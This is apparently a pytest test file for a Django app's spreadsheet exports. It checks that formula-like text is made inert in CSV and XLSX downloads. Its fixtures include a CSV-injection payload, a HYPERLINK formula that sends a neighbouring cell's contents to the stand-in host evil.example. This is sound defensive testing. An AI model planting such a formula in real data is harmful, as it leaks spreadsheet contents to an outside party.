"""Spreadsheet files cannot run code: the shared rules, and the admin's import-export downloads."""

import csv
import io
from decimal import Decimal

import pytest
from django.contrib import admin
from django.urls import reverse
from import_export.admin import ImportExportMixin
from import_export.forms import SelectableFieldsExportForm
from openpyxl import load_workbook

from brukarkraft import exports
from brukarkraft.models import Organisation

from .factories import OrganisationFactory

FORMULA = "=1+1"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"x")'


def inert_formulas():
    """Every start a spreadsheet reads as a formula."""
    return [FORMULA, HYPERLINK, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", inert_formulas())
def test_text_that_could_start_a_formula_gets_an_apostrophe(text):
    assert exports.inert(text) == "'" + text


@pytest.mark.parametrize("value", [7, -3, 2.5, Decimal("-12.50"), "-12,50", "-3", "Anna", "", None])
def test_numbers_and_plain_text_are_left_as_they_are(value):
    assert exports.inert(value) == value


def test_the_csv_writer_makes_every_cell_inert():
    out = io.StringIO()

    exports.csv_writer(out).writerows([[HYPERLINK, 3, "Bra"], [FORMULA, Decimal("1.5"), ""]])

    rows = list(csv.reader(io.StringIO(out.getvalue()), delimiter=";"))
    assert rows == [["'" + HYPERLINK, "3", "Bra"], ["'" + FORMULA, "1.5", ""]]


def test_an_xlsx_keeps_text_as_text_and_numbers_as_numbers(tmp_path):
    book = exports.xlsx_workbook("Svar", ["text", "number"], [[HYPERLINK, 7], [FORMULA, 2.5]])
    path = tmp_path / "file.xlsx"
    book.save(path)

    sheet = load_workbook(path).worksheets[0]
    cells = [[cell for cell in row] for row in sheet.iter_rows(min_row=2)]
    assert [(c.value, c.data_type) for c in cells[0]] == [(HYPERLINK, "s"), (7, "n")]
    assert [(c.value, c.data_type) for c in cells[1]] == [(FORMULA, "s"), (2.5, "n")]


def test_control_characters_that_xlsx_cannot_hold_do_not_break_the_file(tmp_path):
    book = exports.xlsx_workbook("Svar", ["text"], [["bra\x07 svar\x1b"]])
    path = tmp_path / "file.xlsx"
    book.save(path)

    assert load_workbook(path).worksheets[0]["A2"].value == "bra svar"


# --- django-import-export in admin --------------------------------------------------------


def test_every_import_export_admin_offers_only_the_inert_formats():
    admins = [m for m in admin.site._registry.values() if isinstance(m, ImportExportMixin)]

    assert admins
    for model_admin in admins:
        assert model_admin.get_export_formats() == exports.FORMATS, model_admin


def organisation_export(client, title: str):
    model_admin = admin.site._registry[Organisation]
    formats = [fmt().get_title() for fmt in model_admin.get_export_formats()]
    resource = model_admin.resource_classes[0]
    data = {"format": str(formats.index(title)), "resource": "0"}
    for name in resource().get_export_order():
        data[SelectableFieldsExportForm.create_boolean_field_name(resource, name)] = "on"
    response = client.post(reverse("admin:brukarkraft_organisation_export"), data)
    assert response.status_code == 200, response.content[:500]
    return response


@pytest.mark.django_db
def test_the_organisation_csv_in_admin_carries_formulas_inert(client, admin_user):
    # Names come from self-registration: anyone may choose one.
    evil = OrganisationFactory(name=HYPERLINK, city=FORMULA)
    client.force_login(admin_user)

    response = organisation_export(client, "csv")

    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    row = next(r for r in rows if r["id"] == str(evil.pk))
    assert row["name"] == "'" + HYPERLINK
    assert row["city"] == "'" + FORMULA


@pytest.mark.django_db
def test_the_organisation_xlsx_in_admin_has_text_cells_and_number_cells(client, admin_user):
    evil = OrganisationFactory(name=HYPERLINK, city=FORMULA)
    client.force_login(admin_user)

    response = organisation_export(client, "xlsx")

    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[header.index("id")].value == evil.pk)
    name, city = row[header.index("name")], row[header.index("city")]
    assert (name.value, name.data_type) == (HYPERLINK, "s")
    assert (city.value, city.data_type) == (FORMULA, "s")
    assert row[header.index("id")].data_type == "n"


@pytest.mark.django_db
def test_an_exported_csv_imports_again_without_the_apostrophes():
    dataset = exports.CSV().create_dataset(f"name,city\n'{FORMULA},Lund\n")

    assert list(dataset[0]) == [FORMULA, "Lund"]


def test_every_formula_start_is_a_text_cell_in_an_xlsx(tmp_path):
    book = exports.xlsx_workbook("Svar", ["text"], [[text] for text in inert_formulas()])
    path = tmp_path / "file.xlsx"
    book.save(path)

    cells = [row[0] for row in load_workbook(path).worksheets[0].iter_rows(min_row=2)]
    assert [cell.data_type for cell in cells] == ["s"] * len(inert_formulas())
    # XML reads a carriage return as a line feed; the text is otherwise as written.
    assert [cell.value for cell in cells] == [t.replace("\r", "\n") for t in inert_formulas()]
